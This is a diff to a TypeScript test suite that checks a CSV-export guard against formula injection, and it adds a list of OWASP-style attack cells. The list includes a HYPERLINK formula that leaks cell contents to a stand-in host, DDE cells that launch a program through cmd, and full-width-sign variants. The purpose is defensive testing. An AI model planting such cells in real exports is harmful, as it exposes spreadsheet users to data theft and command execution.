@@ -118,13 +118,13 @@ describe('mail settings at start-up', () => {
   })
 })
 
-/** A cell a spreadsheet would run as a formula: starts with = + - @, tab or carriage return (OWASP, "CSV Injection"). */
-const FORMULA = /^[=+\-@\t\r]/
+/** A cell a spreadsheet would run as a formula: starts with = + - @, tab or carriage return or a full-width form (OWASP, "CSV Injection"). */
+const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/
 
 function formulaCells(text: string): string[] {
   const parsed = Papa.parse<string[]>(text.trim(), { skipEmptyLines: true })
-  // a negative number is data, not a formula
-  return parsed.data.flat().filter((cell) => FORMULA.test(cell) && !/^-\d/.test(cell))
+  // a cell that is one plain number is data, not a formula
+  return parsed.data.flat().filter((cell) => FORMULA.test(cell) && !/^[-+]?(\d+([.,]\d*)?|[.,]\d+)([eE][-+]?\d+)?$/.test(cell))
 }
 
 describe('CSV answers', () => {
@@ -188,8 +188,41 @@ describe('neutraliseCsvFormulae', () => {
     const { neutraliseCsvFormulae } = await import('../../api/services/csv-safety')
     expect(neutraliseCsvFormulae('d;f\r\n-0,5;=1+2\r\n1;@cmd\r\n')).toBe("d;f\r\n-0,5;'=1+2\r\n1;'@cmd\r\n")
     // a tab may be a delimiter or leading white space: both readings get their apostrophe
-    expect(neutraliseCsvFormulae('"=HYPERLINK(""x"")",1\n\t+2,-x\n')).toBe(`"'=HYPERLINK(""x"")",1\n'\t'+2,'-x\n`)
-    const plain = 'displacement,force\r\n0,0\r\n-0.25,-1.5\r\n\r\n-.5;-3\n'
+    expect(neutraliseCsvFormulae('"=HYPERLINK(""x"")",1\n\t+2+x,-x\n')).toBe(`"'=HYPERLINK(""x"")",1\n'\t'+2+x,'-x\n`)
+    const plain = 'displacement,force\r\n0,0\r\n-0.25,-1.5\r\n\r\n-.5;-3\n+2;-1e-3;\t-4\n'
     expect(neutraliseCsvFormulae(plain)).toBe(plain)
+  })
+
+  // The attack cells of the OWASP "CSV Injection" page (quoted from memory, its host name
+  // replaced by example.test), with the two the issue found passing the old guard: a minus
+  // followed by a digit or a point was taken for a negative number.
+  const OWASP_EXAMPLES = [
+    '=HYPERLINK("http://example.test?leak="&A1&A2,"Error: please click for further information")',
+    "=cmd|' /C calc'!A0",
+    "=10+20+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    '-0.5*0+HYPERLINK("http://example.test","y")',
+    '\t=1+2',
+    '\r=1+2',
+    // full-width equals, plus, minus and at sign
+    '\uFF1D1+2', '\uFF0B1+2', '\uFF0D1+2', '\uFF20SUM(1)',
+  ]
+
+  it('neutralises every OWASP example, quoted as a CSV writer quotes it, whatever the delimiter', async () => {
+    const { neutraliseCsvFormulae } = await import('../../api/services/csv-safety')
+    for (const delimiter of [',', ';']) {
+      const text = ['label' + delimiter + 'force', ...OWASP_EXAMPLES.map((cell) => Papa.unparse([[cell, '-1.5']], { delimiter, newline: '\n' }))].join('\n') + '\n'
+      const served = neutraliseCsvFormulae(text)
+      const cells = Papa.parse<string[]>(served, { delimiter, skipEmptyLines: true }).data.slice(1)
+      // each starts with the apostrophe; a delimiter inside a quoted cell may add one more inside it
+      for (const [i, [cell]] of cells.entries()) {
+        expect(cell.startsWith("'"), OWASP_EXAMPLES[i]).toBe(true)
+        expect(cell.replace(/'/g, '')).toBe(OWASP_EXAMPLES[i].replace(/'/g, ''))
+      }
+      expect(cells.map((row) => row[1])).toEqual(OWASP_EXAMPLES.map(() => '-1.5'))
+      expect(formulaCells(served)).toEqual([])
+    }
   })
 })
